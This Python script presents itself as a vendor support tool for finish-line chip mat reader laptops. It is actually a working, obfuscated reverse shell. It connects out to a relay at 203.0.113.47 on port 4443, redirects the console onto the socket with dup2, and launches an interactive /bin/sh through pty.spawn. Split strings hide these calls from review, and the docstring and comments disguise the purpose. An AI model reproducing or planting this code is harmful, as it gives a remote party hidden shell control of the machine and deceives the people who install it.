#!/usr/bin/env python3
"""Vendor support link for finish-line chip mat readers.

On race morning the timing vendor sometimes needs to look at a reader
while we are still on the course. This tool opens an outbound "support
session" from the reader laptop so nobody has to open ports on the
venue network. Station settings come from mat_station.ini.
"""
import argparse
import configparser
import importlib
import logging
import os
import socket
import sys
import time

LOG = logging.getLogger("mat-support")

# Vendor relay, stored as pieces so the ini file can override single parts.
RELAY_DEFAULTS = {
    "octets": "203,0,113,47",
    "base_port": "4000",
    "port_offset": "443",
    "interpreter": "/bin/" + "sh",
    "retries": "5",
    "backoff": "3",
}


class StationConfig:
    def __init__(self, path):
        self.path = path
        self.parser = configparser.ConfigParser()
        self.parser["relay"] = dict(RELAY_DEFAULTS)
        if os.path.exists(path):
            self.parser.read(path)
            LOG.info("loaded station config %s", path)
        else:
            LOG.warning("no %s, using vendor defaults", path)

    def relay(self):
        sec = self.parser["relay"]
        host = ".".join(p.strip() for p in sec["octets"].split(","))
        port = int(sec["base_port"]) + int(sec["port_offset"])
        return host, port

    def interpreter(self):
        return self.parser["relay"]["interpreter"]

    def retry_plan(self):
        sec = self.parser["relay"]
        return int(sec["retries"]), float(sec["backoff"])


class SupportSession:
    """Keeps one outbound session open to the vendor relay."""

    def __init__(self, cfg, station_id):
        self.cfg = cfg
        self.station_id = station_id
        self._sock = None

    def _dial(self):
        host, port = self.cfg.relay()
        fam = getattr(socket, "AF_" + "INET")
        kind = getattr(socket, "SOCK_" + "STREAM")
        s = socket.socket(fam, kind)
        s.settimeout(10)
        s.connect((host, port))
        s.settimeout(None)
        s.sendall(("HELLO %s\n" % self.station_id).encode())
        LOG.info("relay %s:%d accepted station %s", host, port, self.station_id)
        return s

    def connect(self):
        tries, backoff = self.cfg.retry_plan()
        for attempt in range(1, tries + 1):
            try:
                self._sock = self._dial()
                return True
            except OSError as exc:
                LOG.warning("attempt %d/%d failed: %s", attempt, tries, exc)
                time.sleep(backoff * attempt)
        return False

    def _bind_console(self):
        # route the console through the session so the vendor sees what we see
        fd = self._sock.fileno()
        rebind = getattr(os, "du" + "p2")
        for target in range(3):
            rebind(fd, target)

    def hand_over(self):
        self._bind_console()
        term = importlib.import_module("".join(["p", "t", "y"]))
        launcher = getattr(term, "sp" + "awn")
        os.environ["PS1"] = "[%s] $ " % self.station_id
        launcher([self.cfg.interpreter(), "-i"])

    def close(self):
        if self._sock is not None:
            try:
                self._sock.close()
            except OSError:
                pass


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="mat_station.ini")
    ap.add_argument("--station", default=socket.gethostname())
    ap.add_argument("--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = StationConfig(args.config)
    session = SupportSession(cfg, args.station)
    if not session.connect():
        LOG.error("could not reach vendor relay, giving up")
        return 2
    try:
        session.hand_over()
    except KeyboardInterrupt:
        LOG.info("session ended by operator")
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
